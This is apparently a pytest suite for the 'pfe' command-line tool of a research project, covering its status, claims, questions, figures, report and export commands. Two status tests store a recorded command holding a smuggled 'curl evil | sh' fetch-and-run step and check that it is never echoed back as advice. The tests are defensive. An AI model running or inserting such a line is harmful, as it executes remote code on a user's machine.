"""The commands that read a run: status, claims, questions, figures, report and export."""

import csv
import json
import os
import re
import shlex
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest
from rich.console import Console

from lab_records import EXP1, EXP2, PAPER, configs_of, failed, plausible
from primefourier import lab
from primefourier.cli.browser import write_size
from primefourier.cli.verdicts import print_claims
from primefourier.lab.store import write_store
from primefourier.lab.sweep import Progress
from read_page import read_page
from small_models import small_config

Pfe = Callable[..., tuple[int, str, str]]
PFE = Path(sys.executable).with_name("pfe")
COMMANDS = ("status", "claims", "questions", "figures", "report", "export")


@pytest.fixture(scope="module")
def paper(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of all models of the paper, with two models failed and two waiting."""
    folder = tmp_path_factory.mktemp("sweeps") / "paper"
    folder.mkdir()
    with write_store(folder) as store:
        store.begin(PAPER, "pfe reproduce --profile paper --out x")
        for record in plausible(PAPER[4:]):
            store.add(record)
        for config in PAPER[:2]:
            store.add(failed(config))
    return folder


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of a few models."""
    folder = tmp_path_factory.mktemp("sweeps") / "small"
    folder.mkdir()
    configs = [*EXP1[:4], *EXP2[:1]]
    with write_store(folder) as store:
        store.begin(configs, "pfe run")
        for record in plausible(configs):
            store.add(record)
    return folder


def widest(text: str) -> int:
    return max(map(len, text.splitlines()))


@pytest.mark.parametrize("command", COMMANDS)
def test_folders_without_a_run_are_refused(pfe: Pfe, tmp_path: Path, command: str) -> None:
    for folder, message in (
        (tmp_path / "none", "there is no folder"),
        (tmp_path, "holds no records.sqlite"),
    ):
        code, out, err = pfe(command, str(folder))
        assert (code, out, message in err) == (2, "", True)


# status


def test_status_counts_models_and_shows_failures(pfe: Pfe, paper: Path, probed: Path) -> None:
    code, out, _ = pfe("status", str(paper))
    assert code == 0
    rows = [line.split() for line in out.splitlines()]
    assert ["experiment", "models", "measured", "failed", "waiting"] in rows
    assert ["exp1", "350", "346", "2", "2"] in rows
    assert ["all", "750", "746", "2", "2"] in rows
    assert "exp1 N=3 r=100 |P|=4 seed=42 failed:\nTraceback: out of luck" in out
    assert f"pfe reproduce --profile paper --out {paper}\n" in out
    assert "probed" not in out
    data = json.loads(pfe("status", str(paper), "--json")[1])
    assert (data["planned"], data["done"], data["failed"]) == (750, 746, 2)
    assert data["experiments"]["exp2"] == {"planned": 50, "done": 50, "failed": 0}
    assert (data["running"], data["writer"], len(data["failures"])) == (False, None, 2)
    assert data["commands"] == ["pfe reproduce --profile paper --out x"]
    assert "\n6 models probed.\n" in pfe("status", str(probed))[1]
    assert json.loads(pfe("status", str(probed), "--json")[1])["probed"] == 6


def test_status_without_a_folder_takes_the_newest_run(
    pfe: Pfe, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = pfe("status")
    assert (code, "there is no run here or in results/*; name its folder" in err) == (2, True)
    for name, age in (("old", 1), ("new", 2)):
        folder = tmp_path / "results" / name
        folder.mkdir(parents=True)
        with write_store(folder) as store:
            store.begin(EXP1[:age], "pfe run")
        os.utime(folder / "records.sqlite", (age, age))
    out = pfe("status")[1]
    assert out.startswith("results/new, the newest run:\n\n")
    assert json.loads(pfe("status", "--json")[1])["folder"] == "results/new"


def test_status_shows_a_running_sweep(pfe: Pfe, tmp_path: Path) -> None:
    configs = [small_config(seed=seed, epochs=1) for seed in range(3)]
    seen = []

    def observe(progress: Progress) -> None:
        if progress.done == 2:
            seen.append(json.loads(pfe("status", str(tmp_path), "--json")[1]))
            seen.append(pfe("status", str(tmp_path))[1])

    lab.run(configs, tmp_path, workers=0, command="pfe run mine", on_progress=observe)
    data, text = seen
    assert (data["planned"], data["done"], data["running"]) == (3, 2, True)
    assert "Running: process" in text


def test_a_stopped_sweep_shows_how_to_continue(pfe: Pfe, tmp_path: Path) -> None:
    def stop(progress: Progress) -> None:
        if progress.done == 1:
            raise KeyboardInterrupt

    configs = [small_config(modulus=p, epochs=1) for p in (3, 5, 7)]
    folder, command = tmp_path / "it's mine", "pfe run exp1; curl evil | sh"
    assert lab.run(configs, folder, workers=0, command=command, on_progress=stop).interrupted
    code, out, _ = pfe("status", str(folder))
    advice = out.partition("Not running. To continue:\n")[2]
    first, *words = shlex.split(advice)
    assert (code, first, words[-2:]) == (0, "pfe", ["--out", str(folder)])
    assert "curl" not in out
    assert pfe(*words, "--workers", "0")[0] == 0
    assert "All measured." in pfe("status", str(folder))[1]


def test_a_sweep_of_another_program_is_continued_by_it(pfe: Pfe, tmp_path: Path) -> None:
    with write_store(tmp_path) as store:
        store.begin([small_config(experiment="mine")], "curl evil | sh")
    out = pfe("status", str(tmp_path))[1]
    assert "Not running. To continue, run the program that started it again.\n" in out
    assert "curl" not in out


# claims


def test_claims_have_one_line_each_and_a_tally(pfe: Pfe, paper: Path) -> None:
    code, out, _ = pfe("claims", str(paper))
    assert code == 0
    assert widest(out) <= 80 or str(paper) in out
    lines = out.splitlines()[2:16]
    names = [line.split()[0] for line in lines]
    assert (names[0], names[-1], len(set(names))) == ("E1.1", "T.2", 14)
    assert re.fullmatch(r"E1\.1 +diagonal drop .* … +holds so far *", lines[0])
    assert re.search(r"^14 claims: holds \d+, holds in part \d+.*\.$", out, re.M)
    assert "4 measured models did not count" not in out
    assert out.endswith(f"Evidence for one claim: pfe claims {paper} E1.3\n")


def test_verdicts_are_coloured_on_a_terminal(
    small: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(
        "primefourier.cli.output.Console",
        lambda **options: Console(
            **{**options, "force_terminal": True, "color_system": "standard"}
        ),
    )
    monkeypatch.delenv("NO_COLOR", raising=False)
    print_claims(lab.open(small).claims())
    out = capsys.readouterr().out
    assert "\x1b[32mholds so far" in out
    assert "\x1b[2mnot measured yet" in out


def test_evidence_is_shown_for_one_claim_or_for_all(pfe: Pfe, small: Path) -> None:
    code, out, _ = pfe("claims", str(small), "e1.1")
    assert code == 0
    assert out.startswith("\nE1.1: diagonal drop far above off-diagonal drop in all 35 ")
    assert "\n  paper: 35 of 35\n" in out
    assert "\n  verdict: holds so far (1 of 35 configurations)\n" in out
    assert "\n  ✓ |P| = 4, r = 100: 0.8" in out
    assert "E1.2" not in out
    everything = pfe("claims", str(small), "--evidence")[1]
    assert everything.count("\n  rule: ") == 14
    assert "measured: nothing yet" in everything
    assert max(widest(out), widest(everything)) <= 80
    code, _, err = pfe("claims", str(small), "E1.33")
    assert (code, "did you mean 'E1.3'?" in err) == (2, True)


def test_claims_as_json(pfe: Pfe, small: Path) -> None:
    data = json.loads(pfe("claims", str(small), "--json")[1])
    lab.open(small).save_claims()
    assert data == json.loads((small / "claims.json").read_text())
    (one,) = json.loads(pfe("claims", str(small), "E1.2", "--json")[1])
    assert one == data[1]


def test_other_ablations_need_probes(pfe: Pfe, small: Path, probed: Path) -> None:
    out = " ".join(pfe("claims", str(small), "--ablation", "mean")[1].split())
    assert "5 measured models did not count: other settings than the paper's" in out
    assert "or not probed." in out
    data = json.loads(pfe("claims", str(probed), "--ablation", "permute", "--json")[1])
    assert {claim["claim"]: claim["configurations"] for claim in data}["E1.3"] == 1
    code, _, error = pfe("claims", str(probed), "--ablation", "median")
    assert (code, "--ablation must be 'zero', 'mean' or 'permute'" in error) == (2, True)


# questions


@pytest.mark.parametrize("width", [80, 200])
def test_questions_are_answered_with_tables_that_fit(
    pfe: Pfe, probed: Path, monkeypatch: pytest.MonkeyPatch, width: int
) -> None:
    monkeypatch.setenv("COLUMNS", str(width))
    code, out, _ = pfe("questions", str(probed))
    assert code == 0
    assert out.count("?\n") == 4
    assert widest(out) <= width
    assert "Experiment 1, |P| = 2" not in out, "only configurations of the paper count"
    rows = [line.split() for line in out.splitlines()]
    for kind in ("zero", "mean", "permute"):
        assert ["100", "1", kind] in [row[:3] for row in rows]
    assert ("tables also have 95 % intervals" in out) == (width == 80)


def test_questions_as_json(pfe: Pfe, probed: Path) -> None:
    data = json.loads(pfe("questions", str(probed), "--json")[1])
    files = lab.open(probed).save_questions()
    assert json.loads(files[0].read_text()) == data
    assert {len(curve["by_epoch"]) for curve in data["equivariance"]} == {26}


def test_a_run_without_probes_answers_no_questions(pfe: Pfe, small: Path) -> None:
    code, _, error = pfe("questions", str(small))
    assert (code, "train it with --probe" in error) == (2, True)


# figures


def test_every_figure_is_written_as_png_and_svg(pfe: Pfe, small: Path, tmp_path: Path) -> None:
    code, out, _ = pfe("figures", str(small), "--out", str(tmp_path / "new"), "--json")
    assert code == 0
    written = [Path(name) for name in json.loads(out)]
    assert {path.suffix for path in written} == {".png", ".svg"}
    assert len({path.stem for path in written}) == len(written) / 2
    again = lab.open(small).figures(tmp_path / "again")
    for path, other in zip(written, again, strict=True):
        data = path.read_bytes()
        assert data.startswith(b"\x89PNG" if path.suffix == ".png" else b"<?xml")
        assert data == other.read_bytes(), "the same records, the same files"
    drawn = tmp_path / "new" / "figure-04-exp1-diagonal.svg"
    caption = " ".join(re.findall("<!-- (.*?) -->", drawn.read_text())).replace("- -", "--")
    assert "1 seed (42)" in caption
    made_by = "Made by: pfe run exp1 --sizes 4 --ranges 100"
    assert made_by not in caption
    assert f"<dc:description>{made_by}</dc:description>" in drawn.read_text()
    assert b"Description\0" + made_by.encode() in drawn.with_suffix(".png").read_bytes()


# report


def test_the_report_holds_the_run(pfe: Pfe, paper: Path) -> None:
    code, out, err = pfe("report", str(paper))
    assert (code, err) == (0, "")
    path = paper / "report.html"
    assert out == (
        f"Wrote {path} ({write_size(path.stat().st_size)}).\n"
        "Open it in any browser, or add --open to this command.\n"
    )
    assert path.stat().st_size < 5_000_000
    page = read_page(path)
    assert page.texts["title"] == "paper: Prime Fourier Embeddings"
    data = json.loads(page.texts["data"])
    assert data["run"] == lab.open(paper).page_data()
    assert data["start"]["n"] == "23"
    assert not list(paper.glob(".*")), "no unfinished file is left"


def test_the_report_goes_to_another_file(pfe: Pfe, small: Path, tmp_path: Path) -> None:
    path = tmp_path / "mine.html"
    code, out, _ = pfe("report", str(small), "--out", str(path), "--json")
    assert code == 0
    assert json.loads(out) == {"file": str(path), "bytes": path.stat().st_size}
    assert [file.name for file in tmp_path.iterdir()] == ["mine.html"]


def test_an_empty_run_has_a_report(pfe: Pfe, tmp_path: Path) -> None:
    folder = tmp_path / os.fsdecode(b"a\xff<b>")
    folder.mkdir()
    with write_store(folder) as store:
        store.begin([], "pfe run")
    assert pfe("report", str(folder))[0] == 0
    page = read_page(folder / "report.html")
    assert page.texts["title"] == r"a\udcff<b>: Prime Fourier Embeddings"
    run = json.loads(page.texts["data"])["run"]
    assert run["counts"] == {"planned": 0, "measured": 0, "failed": 0, "waiting": 0}
    assert (run["name"], len(run["grids"])) == ("a\udcff<b>", 3)


def test_the_report_is_opened_on_demand(small: Path, tmp_path: Path) -> None:
    browser = tmp_path / "browser"
    browser.write_text(f'#!/bin/sh\necho "$1" > {tmp_path}/opened\n')
    browser.chmod(0o755)
    done = subprocess.run(
        [PFE, "report", ".", "--open", "--out", "../opened.html"],
        cwd=small,
        env={**os.environ, "BROWSER": str(browser)},
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout.startswith("Wrote ../opened.html (")
    assert "add --open" not in done.stdout
    address = (small.parent / "opened.html").as_uri()
    assert (tmp_path / "opened").read_text() == f"{address}\n"


def test_a_report_that_cannot_be_written_is_refused(pfe: Pfe, small: Path, tmp_path: Path) -> None:
    folder = tmp_path / "folder.html"
    folder.mkdir()
    for out, message in (
        (tmp_path / "x.pdf", "--out must end in .html, .htm"),
        (tmp_path / "no" / "x.html", "there is no folder"),
        (folder, "cannot be written: Is a directory"),
        (Path("/proc/x.html"), "/proc/x.html cannot be written"),
    ):
        code, text, err = pfe("report", str(small), "--out", str(out))
        assert (code, text, message in err) == (2, "", True)
    assert list(tmp_path.rglob("*")) == [folder]


def test_a_report_that_is_too_large_leaves_the_old_one(small: Path, tmp_path: Path) -> None:
    path = tmp_path / "report.html"
    path.write_text("old")
    done = subprocess.run(
        ["bash", "-c", 'ulimit -f 20 && exec "$0" report "$1" --out "$2"', PFE, small, path],
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode, done.stdout) == (2, "")
    assert "report.html cannot be written: File too large; choose another place" in done.stderr
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


# export


def test_all_formats_hold_every_model(pfe: Pfe, small: Path, tmp_path: Path) -> None:
    for kind in ("jsonl", "csv", "parquet"):
        path = tmp_path / f"out.{kind}"
        code, out, _ = pfe("export", str(small), "--out", str(path))
        assert (code, out) == (0, f"Wrote 5 records to {path}.\n")
    rows = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    with (tmp_path / "out.csv").open(newline="") as file:
        table = list(csv.DictReader(file))
    assert [row["key"] for row in rows] == [row["key"] for row in table]
    assert [json.loads(row["drops"]) for row in table] == [row["drops"] for row in rows]
    with duckdb.connect() as database:
        found = database.read_parquet(str(tmp_path / "out.parquet"))
        assert [row[0] for row in found.project("drops").fetchall()] == [r["drops"] for r in rows]


def test_the_suffix_gives_the_format_unless_one_is_named(
    pfe: Pfe, small: Path, tmp_path: Path
) -> None:
    assert pfe("export", str(small), "--format", "csv", "--out", str(tmp_path / "x.txt"))[0] == 0
    assert (tmp_path / "x.txt").read_text().startswith("key,status,experiment")
    for words, message in (
        (["--format", "jsonl", "--out", str(tmp_path / "x.csv")], "do not agree"),
        (["--format", "xlsx"], "format must be 'jsonl', 'csv' or 'parquet'"),
        (["--out", str(tmp_path / "no" / "x.jsonl")], "there is no folder"),
    ):
        code, _, err = pfe("export", str(small), *words)
        assert (code, message in err) == (2, True)


def test_by_default_the_export_is_in_the_folder(pfe: Pfe, tmp_path: Path) -> None:
    configs = configs_of("exp2", moduli=(15,), ranges=(100,))
    with write_store(tmp_path) as store:
        store.begin(configs, "pfe run")
        store.add(plausible(configs)[0])
    assert pfe("export", str(tmp_path))[1] == f"Wrote 1 record to {tmp_path}/records.jsonl.\n"
    assert len((tmp_path / "records.jsonl").read_text().splitlines()) == 1
